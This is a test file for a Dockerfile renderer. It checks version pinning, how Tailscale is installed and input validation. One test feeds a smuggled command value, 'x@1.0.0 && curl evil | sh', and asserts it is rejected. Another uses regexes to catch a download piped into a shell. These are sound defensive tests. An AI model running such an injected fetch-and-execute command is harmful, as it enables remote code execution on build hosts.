import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { dockerfileValidator } from "../../cli/validators/dockerfileValidator";
import { type DockerfileInput, renderDockerfile } from "./renderDockerfile";
import { PAPERCLIP_NPM_PACKAGE } from "../paperclip/paperclipRelease";

const INPUT: DockerfileInput = {
  baseImage: "docker.io/library/node:24.21.0-trixie-slim",
  tailscaleImage: "docker.io/tailscale/tailscale:v1.98.10",
  postgresMajor: 17,
  npmPackages: [PAPERCLIP_NPM_PACKAGE, "@anthropic-ai/claude-code@2.1.329"],
  nodeHome: "/paperclip",
  seedConfigPath: "/etc/paperclip/config.json",
  startScriptPath: "/usr/local/bin/paperclip-start",
};

const directory = mkdtempSync(join(tmpdir(), "dockerfile-"));
afterAll(() => rmSync(directory, { recursive: true, force: true }));

/** The logical instructions (continuations joined, comments dropped). */
function instructions(text: string): string[] {
  return text
    .replace(/\\\n/g, " ")
    .split("\n")
    .filter((line) => line.trim() !== "" && !line.startsWith("#"))
    .map((line) => line.replace(/\s+/g, " ").trim());
}

describe("renderDockerfile", () => {
  test("renders a stable Dockerfile", () => {
    expect(renderDockerfile(INPUT)).toMatchSnapshot();
  });

  test("passes the structure check (no Debian-packaged Dockerfile linter exists)", () => {
    const file = join(directory, "Dockerfile");
    writeFileSync(file, renderDockerfile(INPUT));
    expect(dockerfileValidator({ file })).toMatchObject({ status: "passed" });
  });

  test("pins every source: base and Tailscale images by tag, PostgreSQL by major, npm packages by version", () => {
    const lines = instructions(renderDockerfile(INPUT));
    expect(lines[0]).toBe("FROM docker.io/tailscale/tailscale:v1.98.10 AS tailscale");
    expect(lines[1]).toBe("FROM docker.io/library/node:24.21.0-trixie-slim");
    expect(lines).toContain(
      "RUN apt-get update && apt-get install --yes --no-install-recommends ca-certificates curl git iptables postgresql-17 && rm -rf /var/lib/apt/lists/*",
    );
    expect(lines).toContain(
      `RUN npm install --global --no-fund --no-audit ${PAPERCLIP_NPM_PACKAGE} @anthropic-ai/claude-code@2.1.329 && npm cache clean --force`,
    );
  });

  test("installs Tailscale from its image, never by piping a download into a shell", () => {
    const lines = instructions(renderDockerfile(INPUT));
    expect(lines).toContain("COPY --from=tailscale /usr/local/bin/tailscale /usr/local/bin/tailscaled /usr/local/bin/");
    expect(lines.join("\n")).not.toMatch(/\|\s*(ba)?sh\b/);
    expect(lines.join("\n")).not.toMatch(/https?:/);
  });

  test("keeps the seed config out of the volume, makes the volume node's home, runs the start script", () => {
    const lines = instructions(renderDockerfile(INPUT));
    expect(lines).toContain("COPY config.json /etc/paperclip/config.json");
    expect(lines).toContain("COPY start.sh /usr/local/bin/paperclip-start");
    expect(lines).toContain("RUN usermod --home /paperclip node && mkdir -p /var/run/tailscale");
    expect(lines.at(-1)).toBe('CMD ["/usr/local/bin/paperclip-start"]');
    expect(lines.some((line) => /^(USER|VOLUME|ENV) /.test(line))).toBe(false);
  });

  test("refuses values it cannot vouch for", () => {
    expect(() => renderDockerfile({ ...INPUT, baseImage: "node:lts-trixie-slim" })).toThrow(
      'Dockerfile (components/fly/renderDockerfile.ts): a valid base image (a Dockerfile has no escaping): "node:lts-trixie-slim"',
    );
    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["paperclipai@latest"] })).toThrow(
      'a valid npm package pinned to an exact version (a Dockerfile has no escaping): "paperclipai@latest"',
    );
    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["x@1.0.0 && curl evil | sh"] })).toThrow("a valid npm package");
    expect(() => renderDockerfile({ ...INPUT, seedConfigPath: "/etc/paper clip.json" })).toThrow("a valid seed config path");
    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["paperclipai@1.0.0", "@scope/cli@1.0.0", "paperclipai@2.0.0"] })).toThrow(
      'one version of each npm package: paperclipai is already installed as paperclipai@1.0.0: "paperclipai@2.0.0"',
    );
    expect(() => renderDockerfile({ ...INPUT, npmPackages: ["@scope/cli@1.0.0", "@scope/other@1.0.0"] })).not.toThrow();
  });
});
